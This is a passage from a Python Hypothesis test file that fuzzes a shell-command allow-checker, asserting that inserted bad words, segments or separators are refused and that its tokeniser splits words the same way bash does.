    parts: list[str], spaces: list[str], data: st.DataObject
) -> None:
    bad = data.draw(st.sampled_from(BAD_SEGMENTS))
    separator = data.draw(st.sampled_from(SEPARATORS))
    slot = data.draw(st.integers(0, len(parts) // 2 + 1)) * 2  # before a segment, never a separator
    parts = [*parts[:slot], bad, separator, *parts[slot:]] if slot < len(parts) else [
        *parts, separator, bad,
    ]  # fmt: skip
    assert decide(_join(parts, spaces)) is False


@given(parts=_safe_command(), spaces=spacing, data=st.data())
@settings(max_examples=examples(150), suppress_health_check=[HealthCheck.too_slow])
def test_bad_word_anywhere_is_refused(
    parts: list[str], spaces: list[str], data: st.DataObject
) -> None:
    bad = data.draw(st.sampled_from(BAD_WORDS))
    segment_index = data.draw(st.integers(0, (len(parts) - 1) // 2)) * 2
    words = re.findall(r"'[^']*'|\S+", parts[segment_index])  # never inside single quotes
    position = data.draw(st.integers(0, len(words)))
    words.insert(position, bad)
    parts = [*parts[:segment_index], " ".join(words), *parts[segment_index + 1 :]]
    assert decide(_join(parts, spaces)) is False


@given(parts=_safe_command(), spaces=spacing, data=st.data())
def test_bad_separator_anywhere_is_refused(
    parts: list[str], spaces: list[str], data: st.DataObject
) -> None:
    bad = data.draw(st.sampled_from(BAD_SEPARATORS))
    tail = data.draw(st.sampled_from(SAFE_SEGMENTS))
    segment_index = data.draw(st.integers(0, (len(parts) - 1) // 2)) * 2
    parts = [*parts]
    parts[segment_index] = f"{parts[segment_index]} {bad} {tail}"
    assert decide(_join(parts, spaces)) is False


@given(st.text())
@settings(max_examples=examples(300))
def test_never_raises_on_arbitrary_text(cmd: str) -> None:
    assert type(decide(cmd)) is bool  # and never raises


@given(
    st.text(alphabet=st.sampled_from(list(" \t|&;<>$`'\"\\(){}#*?[]-=/\n\r lsgitf")), max_size=40)
)
@settings(max_examples=examples(600))
def test_never_raises_on_shell_soup(cmd: str) -> None:
    assert type(decide(cmd)) is bool  # and never raises


@given(
    cmd=st.one_of(st.sampled_from(ALLOWED), _safe_command().map(" ".join)),
    before=st.text(alphabet=" \t\n", max_size=5),
    after=st.text(alphabet=" \t\n", max_size=5),
)
def test_surrounding_whitespace_keeps_accepted_commands(cmd: str, before: str, after: str) -> None:
    if decide(cmd):
        assert decide(before + cmd + after) is True


# --------------------------------------------------------------------------------------------
# the tokeniser agrees with real bash
# --------------------------------------------------------------------------------------------

#: No character here can make bash run anything (no ; | & $ ` ( ) < > newline), so handing
#: these strings to a real bash as printf's arguments is harmless even if the lexer is wrong.
WORD_ALPHABET = [*"ab-'\"\\ \t#{}@*?[]=,.:/", "@{u}", "@{1}", "{a,b}", "'x y'", '"x y"']


@given(st.lists(st.sampled_from(WORD_ALPHABET), min_size=1, max_size=12).map("".join))
@settings(max_examples=examples(150), deadline=None)
def test_words_match_bash(text: str) -> None:
    """Whatever the lexer accepts as plain words, bash splits into the same words."""
    try:
        tokens = lex(text)
    except Refuse:
        return
    if not tokens:
        return
    assert all(isinstance(t, Word) for t in tokens)
    # -f: no pathname expansion (it depends on the directory); brace expansion stays on
    result = subprocess.run(
        ["bash", "--norc", "--noprofile", "-f", "-c", f"printf '%s\\0' {text}"],
        capture_output=True,
        check=True,
        timeout=10,
    )
    bash_words = result.stdout.decode().split("\0")[:-1]
    assert bash_words == [t.text for t in tokens if isinstance(t, Word)]
